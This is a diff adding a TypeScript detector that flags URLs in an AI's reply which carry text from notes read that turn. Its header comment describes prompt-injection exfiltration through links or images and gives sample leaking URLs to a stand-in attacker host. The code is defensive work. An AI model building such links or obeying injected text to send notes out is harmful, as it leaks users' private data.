@@ -1,0 +1,63 @@
+/**
+ * Whether a URL carries text from a note read this turn: the way a prompt-injected reply sends a
+ * note out is a link (or an image) whose address holds the note's words, e.g.
+ * `https://attacker.example/?d=hunter2-horse`. The URL is decoded the ways a server would read it
+ * (percent-encoding, `+` as space) and compared with each note's text; a shared run of
+ * LEAK_RUN characters (letters and digits, case folded) is enough. Only the host's registrable
+ * part (its last two labels) is left out, as a site's own name is no secret; a subdomain can carry
+ * one (`hunter2.attacker.example`).
+ */
+
+import type { NoteRead } from "./notes-read";
+
+export const LEAK_RUN = 8;
+
+/** The paths of the notes whose text the URL carries, in reading order, each once. */
+export function notesInUrl(url: string, reads: readonly NoteRead[]): string[] {
+	if (reads.length === 0) return [];
+	const carried = fold(carriedText(url));
+	if (carried.length < LEAK_RUN) return [];
+	const found: string[] = [];
+	for (const read of reads) {
+		if (found.includes(read.path)) continue;
+		const note = fold(read.text);
+		for (let i = 0; i + LEAK_RUN <= carried.length; i++) {
+			if (note.includes(carried.slice(i, i + LEAK_RUN))) {
+				found.push(read.path);
+				break;
+			}
+		}
+	}
+	return found;
+}
+
+/** Everything in the URL but its scheme and registrable host, decoded. */
+function carriedText(url: string): string {
+	let parsed: URL;
+	try {
+		parsed = new URL(url);
+	} catch {
+		return decode(url);
+	}
+	const labels = parsed.hostname.split(".");
+	const sub = labels.slice(0, Math.max(0, labels.length - 2)).join(".");
+	return [sub, parsed.username, parsed.password, decode(parsed.pathname), decode(parsed.search.replace(/\+/g, " ")), decode(parsed.hash)].join(" ");
+}
+
+function decode(text: string): string {
+	// Twice: an address can be encoded twice to slip past a single decoding.
+	let out = text;
+	for (let i = 0; i < 2; i++) {
+		try {
+			out = decodeURIComponent(out);
+		} catch {
+			break;
+		}
+	}
+	return out;
+}
+
+/** Runs of letters and digits only, lower case: separators are where an encoding differs most. */
+function fold(text: string): string {
+	return text.normalize("NFKC").toLowerCase().replace(/[^\p{L}\p{N}]+/gu, "");
+}
